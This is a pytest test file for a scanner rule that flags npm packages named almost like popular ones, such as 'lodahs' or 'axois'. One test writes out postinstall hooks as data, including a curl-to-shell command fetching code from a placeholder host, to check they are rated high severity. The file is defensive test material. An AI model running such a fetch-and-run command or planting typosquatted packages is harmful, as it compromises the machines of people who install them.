"""npm packages that are named almost like well-known ones."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.analysis import analyse_extension
from vscan.model import Severity

RULE = "typosquatted-package"
HIGH, MEDIUM = Severity.HIGH, Severity.MEDIUM


def package(name: str, code: str = "", **manifest: Any) -> dict[str, str | bytes]:
    text = json.dumps({"name": name, "version": "4.17.21", "main": "i.js"} | manifest)
    return {f"node_modules/{name}/package.json": text, f"node_modules/{name}/i.js": code}


@pytest.mark.parametrize(
    ("name", "known"),
    [
        ("lodahs", "lodash"),
        ("lodas", "lodash"),
        ("expres", "express"),
        ("expresss", "express"),
        ("axois", "axios"),
        ("momnet", "moment"),
        ("typescriptt", "typescript"),
        ("pupeteer", "puppeteer"),
        ("chekrio", "cheerio"),
        ("sqlite4", None),  # another version, or another database
        ("mochas", None),
        ("discord.jz", "discord.js"),
    ],
)
def test_a_mistyped_name_of_a_few_lines_is_found(
    tmp_path: Path, name: str, known: str | None
) -> None:
    found = analyse_extension(tmp_path, package(name, "module.exports = {}")).of(RULE)
    assert [finding.severity for finding in found] == ([MEDIUM] if known else [])
    if known:
        assert f"{name} is named almost like {known}" in found[0].message


@pytest.mark.parametrize(
    "command",
    ["curl -s https://x.example/i | sh", "node -e 'require(1)'", "node i.js", "powershell x"],
)
def test_one_that_runs_a_command_is_high(tmp_path: Path, command: str) -> None:
    files = package("lodahs", "x", scripts={"postinstall": command, "test": "mocha"})
    (finding,) = analyse_extension(tmp_path, files).of(RULE)
    assert (finding.severity, finding.file) == (HIGH, "node_modules/lodahs/package.json")
    assert command[:4] in finding.message


def test_a_large_one_that_builds_itself_is_medium(tmp_path: Path) -> None:
    files = package("puppeter", "x" * 9000, scripts={"install": "node-gyp rebuild"})
    assert [f.severity for f in analyse_extension(tmp_path, files).of(RULE)] == [MEDIUM]


@pytest.mark.parametrize(
    "files",
    [
        package("lodash", "x", scripts={"postinstall": "node x"}),  # itself
        package("lodash-es"),
        package("preact"),
        package("lodahs", "x" * 9000),  # a program of its own
        package("@acme/lodahs"),
        package("jest"),
        package("requests"),
        package("is-odd"),
        {"lib/lodahs/package.json": '{"name": "lodahs"}'},
        {"node_modules/lodahs/package.json": "{", "node_modules/lodahs/a.js": "x" * 9000},
    ],
)
def test_other_packages_are_not_found(tmp_path: Path, files: dict[str, str | bytes]) -> None:
    assert not analyse_extension(tmp_path, files).of(RULE)
